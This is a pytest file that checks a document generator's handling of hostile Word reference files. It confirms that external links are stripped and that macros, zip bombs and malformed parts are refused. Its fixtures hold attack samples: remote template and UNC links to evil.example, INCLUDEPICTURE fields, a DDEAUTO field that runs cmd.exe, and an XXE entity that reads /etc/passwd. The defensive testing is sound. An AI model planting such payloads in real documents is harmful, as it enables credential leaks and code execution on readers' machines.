"""A hostile Word reference document: nothing that links out travels, macros and bombs are refused.

Each hostile reference is the built-in ``templates/reference.docx`` with one attack added. A test
either reads the charter written with it (nothing of the attack may be in any part) or checks the
refusal: exit code 6, a message naming the file and the problem, and no output file.
"""

from __future__ import annotations

import os
import posixpath
import re
import struct
import subprocess
import sys
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import MINIMAL, ROOT

from charter.docx.writer import check_reference_doc
from charter.docx.zipread import MAX_ENTRIES, MAX_ENTRY_BYTES, MAX_FILE_BYTES, MIB
from charter.errors import ReferenceDocError

BUILTIN = ROOT / "templates" / "reference.docx"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OD = R + "/"
WP = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
VML, OFFICE = "urn:schemas-microsoft-com:vml", "urn:schemas-microsoft-com:office:office"
NAMESPACES = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:wp="{WP}" xmlns:a="{A}" xmlns:pic="{PIC}" xmlns:v="{VML}" xmlns:o="{OFFICE}"'
EVIL = "\\\\evil.example\\share"

Parts = dict[str, bytes]


# ----------------------------------------------------------------------------------- building files
def reference(path: Path, *edits: Callable[[Parts], None]) -> Path:
    """The built-in reference with ``edits`` applied to its parts (a dict name -> bytes)."""
    with zipfile.ZipFile(BUILTIN) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for edit in edits:
        edit(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def rels_name(part: str) -> str:
    folder, _, base = part.rpartition("/")
    return f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"


def add_rel(parts: Parts, part: str, rel_id: str, kind: str, target: str, external: bool = False) -> None:
    name = rels_name(part)
    rels = parts.get(
        name, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    )
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'.encode()
    parts[name] = re.sub(
        rb"(/>|</Relationships>)$",
        lambda m: b">" + rel + b"</Relationships>" if m.group() == b"/>" else rel + m.group(),
        rels.strip(),
    )


def add_type(parts: Parts, part: str, content_type: str) -> None:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override + b"</Types>")


def replace(parts: Parts, part: str, old: str, new: str) -> None:
    assert old.encode() in parts[part], f"{old} not in {part}"
    parts[part] = parts[part].replace(old.encode(), new.encode(), 1)


def story(
    kind: str, content: str, rels: tuple[tuple[str, str, str, bool], ...] = ()
) -> Callable[[Parts], None]:
    """An edit adding a header (or footer) holding ``content`` to the final sectPr, with its relationships."""

    def edit(parts: Parts) -> None:
        root = "hdr" if kind == "header" else "ftr"
        name = f"word/{kind}9.xml"
        parts[name] = f"<w:{root} {NAMESPACES}><w:p>{content}</w:p></w:{root}>".encode()
        add_type(parts, name, f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml")
        add_rel(parts, "word/document.xml", "rIdStory", OD + kind, f"{kind}9.xml")
        replace(
            parts,
            "word/document.xml",
            "<w:sectPr>",
            f'<w:sectPr><w:{kind}Reference w:type="default" r:id="rIdStory"/>',
        )
        for rel_id, rel_kind, target, external in rels:
            add_rel(parts, name, rel_id, rel_kind, target, external)

    return edit


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0\x1f\x4e\x79"))
        + chunk(b"IEND", b"")
    )


def drawing(blip: str, descr: str = "Company logo") -> str:
    return (
        f'<w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/><wp:docPr id="1" name="Logo" descr="{descr}"/>'
        f'<a:graphic><a:graphicData uri="{PIC}"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/>'
        f"</pic:nvPicPr><pic:blipFill><a:blip {blip}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>"
        "</wp:inline></w:drawing></w:r>"
    )


def field_runs(instruction: str, result: str = "result") -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


# ------------------------------------------------------------------------------------ running charter
def generate(run_cli, workdir: Path, ref: Path) -> Parts:
    """Every part of the charter written with ``ref``."""
    (workdir / "answers.yml").write_text(MINIMAL, encoding="utf-8")
    result = run_cli("generate", workdir / "answers.yml", "-o", workdir / "out.docx", "--reference-doc", ref)
    assert result.code == 0, result.err
    with zipfile.ZipFile(workdir / "out.docx") as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def refused(run_cli, workdir: Path, ref: Path, *words: str) -> str:
    """The message of a clean refusal (exit 6, no traceback, no output file) naming ``words``."""
    (workdir / "answers.yml").write_text(MINIMAL, encoding="utf-8")
    result = run_cli("generate", workdir / "answers.yml", "-o", workdir / "out.docx", "--reference-doc", ref)
    assert result.code == 6, (result.code, result.err)
    assert "Traceback" not in result.err and str(ref) in result.err
    for word in words:
        assert word in result.err, result.err
    assert not (workdir / "out.docx").exists()
    return result.err


def assert_nothing_links_out(parts: Parts) -> None:
    everything = b"\n".join(parts.values())
    assert b'TargetMode="External"' not in everything
    for word in (b"evil", b"attachedTemplate", b"INCLUDEPICTURE", b"vbaProject", b"hyperlink" + b'"'):
        assert word not in everything, word
    allowed = re.compile(
        r"\[Content_Types\]\.xml|(.*/)?_rels/.*\.rels|docProps/core\.xml|word/(document|styles|numbering|settings"
        r"|webSettings|fontTable|header\d+|footer\d+)\.xml|word/theme/theme\d+\.xml|word/media/[^/]+"
    )
    assert all(allowed.fullmatch(name) for name in parts), sorted(parts)


def headers_and_footers(parts: Parts) -> bytes:
    return b"\n".join(
        data for name, data in parts.items() if re.fullmatch(r"word/(header|footer)\d+\.xml", name)
    )


# ------------------------------------------------------------------------------ what links out: dropped
def test_attached_remote_template_is_dropped(run_cli, workdir: Path) -> None:
    def attach(parts: Parts) -> None:
        replace(
            parts, "word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:linkStyles/><w:zoom'
        )
        add_rel(
            parts, "word/settings.xml", "rIdT", OD + "attachedTemplate", "https://evil.example/t.dotm", True
        )

    parts = generate(run_cli, workdir, reference(workdir / "ref.docx", attach))
    assert b"linkStyles" not in parts["word/settings.xml"]
    assert "word/_rels/settings.xml.rels" not in parts
    assert_nothing_links_out(parts)


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("subDocument", '<w:p><w:subDoc r:id="rIdX"/></w:p>'),
        (
            "oleObject",
            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rIdX" ProgID="Package"/></w:object></w:r></w:p>',
        ),
        ("frame", ""),
    ],
)
def test_external_relationships_are_dropped(run_cli, workdir: Path, kind: str, body: str) -> None:
    def link(parts: Parts) -> None:
        if kind == "frame":  # frames live in the web settings, whose relationships point to the frame pages
            parts["word/webSettings.xml"] = (
                f'<w:webSettings {NAMESPACES}><w:frameset><w:frame><w:sourceFileName r:id="rIdX"/></w:frame>'
                "</w:frameset><w:allowPNG/></w:webSettings>"
            ).encode()
            add_type(
                parts,
                "word/webSettings.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml",
            )
            add_rel(parts, "word/document.xml", "rIdWeb", OD + "webSettings", "webSettings.xml")
            add_rel(parts, "word/webSettings.xml", "rIdX", OD + "frame", EVIL + "\\frame.docx", True)
        else:
            replace(parts, "word/document.xml", "<w:sectPr>", body + "<w:sectPr>")
            add_rel(parts, "word/document.xml", "rIdX", OD + kind, EVIL + "\\part.docx", True)

    parts = generate(run_cli, workdir, reference(workdir / "ref.docx", link))
    assert_nothing_links_out(parts)
    assert b"frameset" not in b"".join(parts.values())


@pytest.mark.parametrize(
    "content",
    [
        f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{EVIL}\\logo.png&quot; \\d "><w:r><w:t>pic</w:t></w:r></w:fldSimple>',
        field_runs(f'INCLUDEPICTURE "{EVIL}\\logo.png" \\d'),
        field_runs(f'IF 1 = 1 "{{ INCLUDEPICTURE "{EVIL}" }}"'),
        field_runs('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    ],
    ids=["simple", "complex", "nested", "dde"],
)
def test_fields_in_the_header_are_dropped_but_page_numbers_stay(run_cli, workdir: Path, content: str) -> None:
    page = field_runs("PAGE", "7")
    ref = reference(workdir / "ref.docx", story("header", f"<w:r><w:t>Brand</w:t></w:r>{content}{page}"))
    parts = generate(run_cli, workdir, ref)
    stories = headers_and_footers(parts)
    assert b"Brand" in stories and b" PAGE " in stories
    for word in (b"INCLUDEPICTURE", b"DDE", b"result", b"pic<", b"IF "):
        assert word not in stories, word
    assert_nothing_links_out(parts)


@pytest.mark.parametrize(
    ("blip", "rels"),
    [
        ('r:link="rIdImg"', (("rIdImg", OD + "image", "http://evil.example/pixel.png", True),)),
        ('r:embed="rIdImg"', (("rIdImg", OD + "image", EVIL + "\\pixel.png", True),)),
        ('r:embed="rIdImg"', (("rIdImg", OD + "image", "media/missing.png", False),)),
    ],
    ids=["r-link", "external-embed", "missing-target"],
)
def test_external_picture_in_the_header_is_dropped(run_cli, workdir: Path, blip, rels) -> None:
    vml = f'<w:r><w:pict><v:shape><v:imagedata o:href="{EVIL}\\a.png" src="{EVIL}\\b.png"/></v:shape></w:pict></w:r>'
    ref = reference(
        workdir / "ref.docx", story("header", drawing(blip) + vml + "<w:r><w:t>Brand</w:t></w:r>", rels)
    )
    parts = generate(run_cli, workdir, ref)
    stories = headers_and_footers(parts)
    assert b"Brand" in stories and b"<w:drawing" not in stories and b"o:href" not in stories
    assert_nothing_links_out(parts)


def test_internal_logo_keeps_its_picture_and_alt_text(run_cli, workdir: Path) -> None:
    def logo(parts: Parts) -> None:
        parts["word/media/logo.png"] = png()
        replace(
            parts,
            "[Content_Types].xml",
            "<Default ",
            '<Default Extension="png" ContentType="image/png"/><Default ',
        )

    click = '<a:hlinkClick r:id="rIdLink"/>'
    rels = (
        ("rIdLogo", OD + "image", "media/logo.png", False),
        ("rIdLink", OD + "hyperlink", "https://evil.example/", True),
    )
    inline = drawing('r:embed="rIdLogo"', descr="Wrenfield logo").replace(
        'descr="Wrenfield logo"/>', f'descr="Wrenfield logo">{click}</wp:docPr>'
    )
    parts = generate(run_cli, workdir, reference(workdir / "ref.docx", logo, story("header", inline, rels)))
    stories = headers_and_footers(parts)
    assert b'descr="Wrenfield logo"' in stories and b'r:embed="rIdLogo"' in stories
    assert parts["word/media/logo.png"] == png()
    assert b"hlinkClick" not in stories
    assert_nothing_links_out(parts)


def test_hyperlink_in_the_footer_is_unwrapped_to_its_text(run_cli, workdir: Path) -> None:
    link = '<w:hyperlink r:id="rIdL"><w:r><w:t>Visit us</w:t></w:r></w:hyperlink>'
    field = field_runs('HYPERLINK "https://evil.example/"', "Or here")
    rels = (("rIdL", OD + "hyperlink", "https://evil.example/", True),)
    parts = generate(run_cli, workdir, reference(workdir / "ref.docx", story("footer", link + field, rels)))
    stories = headers_and_footers(parts)
    assert b"Visit us" in stories and b"w:hyperlink" not in stories and b"Or here" not in stories
    assert_nothing_links_out(parts)


def test_only_the_listed_parts_travel(run_cli, workdir: Path) -> None:
    """Embedded fonts, custom XML, comments, a glossary and an unknown part stay behind."""

    def extras(parts: Parts) -> None:
        parts["word/fonts/font1.odttf"] = b"\0" * 64
        replace(
            parts, "word/fontTable.xml", "</w:font>", f'<w:embedRegular xmlns:r="{R}" r:id="rIdF"/></w:font>'
        )
        add_rel(parts, "word/fontTable.xml", "rIdF", OD + "font", "fonts/font1.odttf")
        for index, (kind, target) in enumerate(
            (
                ("customXml", "../customXml/item1.xml"),
                ("comments", "comments.xml"),
                ("glossaryDocument", "glossary/document.xml"),
                ("package", "embeddings/x.xlsx"),
            )
        ):
            add_rel(parts, "word/document.xml", f"rIdE{index}", OD + kind, target)
            parts[posixpath.normpath("word/" + target)] = b"<x/>"
        replace(
            parts,
            "word/settings.xml",
            "<w:zoom",
            '<w:docVars><w:docVar w:name="secret" w:val="evil"/></w:docVars><w:mailMerge/><w:zoom',
        )

    parts = generate(run_cli, workdir, reference(workdir / "ref.docx", extras))
    assert b"embedRegular" not in parts["word/fontTable.xml"]
    assert b"mailMerge" not in parts["word/settings.xml"]
    assert_nothing_links_out(parts)


def test_page_setup_still_comes_from_the_reference(run_cli, workdir: Path) -> None:
    def landscape(parts: Parts) -> None:
        replace(
            parts,
            "word/document.xml",
            '<w:pgSz w:w="11906" w:h="16838"/>',
            '<w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/>',
        )
        replace(
            parts,
            "word/document.xml",
            '<w:cols w:space="708"/>',
            '<w:cols w:num="2" w:space="708"/><w:printerSettings r:id="rIdP"/>',
        )
        add_rel(parts, "word/document.xml", "rIdP", OD + "printerSettings", EVIL + "\\printer.bin", True)

    parts = generate(run_cli, workdir, reference(workdir / "ref.docx", landscape))
    body = parts["word/document.xml"]
    assert b'w:orient="landscape"' in body and b'w:num="2"' in body and b"printerSettings" not in body
    assert_nothing_links_out(parts)


# ---------------------------------------------------------------------------------- macros: refused
def vba_as_payload(parts: Parts) -> None:
    """Macros under an innocent name and content type, found by their relationship."""
    parts["word/payload.bin"] = b"\0" * 32
    add_type(parts, "word/payload.bin", "application/octet-stream")
    add_rel(parts, "word/document.xml", "rIdV", VBA, "payload.bin")


def macro_content_type(parts: Parts) -> None:
    old = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    replace(parts, "[Content_Types].xml", old, "application/vnd.ms-word.document.macroEnabled.main+xml")


VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


@pytest.mark.parametrize(
    "edit",
    [
        lambda parts: parts.__setitem__("word/vbaProject.bin", b"\0" * 32),
        lambda parts: parts.__setitem__("word/vbaData.xml", b"<wne:vbaSuppData/>"),
        vba_as_payload,
        macro_content_type,
        lambda parts: parts.__setitem__("word/activeX/activeX1.xml", b"<ax:ocx/>"),
    ],
    ids=["vbaProject", "vbaData", "bin-related-as-vbaProject", "macro-content-type", "activeX"],
)
def test_macros_are_refused_whatever_their_name_or_type(run_cli, workdir: Path, edit) -> None:
    refused(run_cli, workdir, reference(workdir / "ref.docx", edit), "macros", ".docx")


# ------------------------------------------------------------------------------- parts that lie: refused
@pytest.mark.parametrize(
    ("part", "content", "words"),
    [
        ("word/styles.xml", f'<w:document xmlns:w="{W}"/>', ("styles part", "<document>")),
        ("word/styles.xml", "garbage, not XML", ("styles part", "not valid XML")),
        ("word/numbering.xml", f'<w:styles xmlns:w="{W}"/>', ("numbering part", "<styles>")),
        (
            "word/styles.xml",
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles xmlns:w="'
            + W
            + '">&e;</w:styles>',
            ("DTD",),
        ),
    ],
    ids=["styles-is-a-document", "styles-is-garbage", "numbering-is-styles", "entity"],
)
def test_a_part_that_is_not_what_it_claims_is_refused(
    run_cli, workdir: Path, part: str, content: str, words
) -> None:
    ref = reference(workdir / "ref.docx", lambda parts: parts.__setitem__(part, content.encode()))
    refused(run_cli, workdir, ref, part, *words)


def test_a_header_that_is_a_footer_is_refused(run_cli, workdir: Path) -> None:
    def swap(parts: Parts) -> None:
        story("header", "<w:r><w:t>x</w:t></w:r>")(parts)
        parts["word/header9.xml"] = parts["word/header9.xml"].replace(b"w:hdr", b"w:ftr")

    refused(run_cli, workdir, reference(workdir / "ref.docx", swap), "header", "word/header9.xml")


# ------------------------------------------------------------------------------- unbounded input: refused
def test_zip_bomb_is_refused_before_it_is_unpacked(run_cli, workdir: Path) -> None:
    bomb = reference(
        workdir / "bomb.docx", lambda parts: parts.__setitem__("word/styles.xml", bytes(30 * MIB))
    )
    assert bomb.stat().st_size < MIB
    tracemalloc.start()
    try:
        with pytest.raises(ReferenceDocError, match=f"{MAX_ENTRY_BYTES // MIB} MiB"):
            check_reference_doc(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * MIB
    refused(run_cli, workdir, bomb, "word/styles.xml", "limit")


def test_an_entry_that_lies_about_its_size_is_read_bounded(workdir: Path) -> None:
    """The zip says 1000 bytes; the data unpacks to 30 MiB. At most the declared size is unpacked."""
    path = reference(
        workdir / "liar.docx", lambda parts: parts.__setitem__("word/styles.xml", bytes(30 * MIB))
    )
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("word/styles.xml")
    struct.pack_into("<I", data, info.header_offset + 22, 1000)  # local header
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(b"word/styles.xml")] != b"word/styles.xml":
        central = data.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, central + 24, 1000)  # central directory
    path.write_bytes(bytes(data))
    tracemalloc.start()
    try:
        with pytest.raises(ReferenceDocError, match=r"damaged|cannot be used"):
            check_reference_doc(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * MIB


def test_too_many_entries_are_refused(run_cli, workdir: Path) -> None:
    def crowd(parts: Parts) -> None:
        for index in range(MAX_ENTRIES + 1):
            parts[f"junk/{index}.xml"] = b""

    refused(run_cli, workdir, reference(workdir / "crowd.docx", crowd), f"limit of {MAX_ENTRIES}")


def test_a_file_too_large_is_refused_without_reading_it(run_cli, workdir: Path) -> None:
    big = workdir / "big.docx"
    with big.open("wb") as stream:
        stream.truncate(MAX_FILE_BYTES + 1)  # sparse: nothing is written to disk
    refused(run_cli, workdir, big, "too large", f"{MAX_FILE_BYTES // MIB} MiB")


@pytest.mark.skipif(
    not hasattr(os, "mkfifo") or not Path("/dev/zero").exists(), reason="needs a POSIX system"
)
@pytest.mark.parametrize("kind", ["fifo", "dev-zero-in-answers"])
def test_devices_and_pipes_are_refused_without_hanging(workdir: Path, kind: str) -> None:
    answers = workdir / "answers.yml"
    args = [sys.executable, "-m", "charter", "generate", str(answers), "-o", str(workdir / "out.docx")]
    if kind == "fifo":
        os.mkfifo(workdir / "ref.docx")
        answers.write_text(MINIMAL, encoding="utf-8")
        args += ["--reference-doc", str(workdir / "ref.docx")]
    else:
        answers.write_text(MINIMAL + "clauses:\n  reference_doc: /dev/zero\n", encoding="utf-8")
    try:
        env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
        result = subprocess.run(args, capture_output=True, text=True, timeout=120, cwd=workdir, env=env)
    except subprocess.TimeoutExpired:
        pytest.fail(f"charter hung on a {kind} as reference document")
    assert result.returncode == 6, result.stderr
    assert "not a regular file" in result.stderr and "Traceback" not in result.stderr
    assert not (workdir / "out.docx").exists()
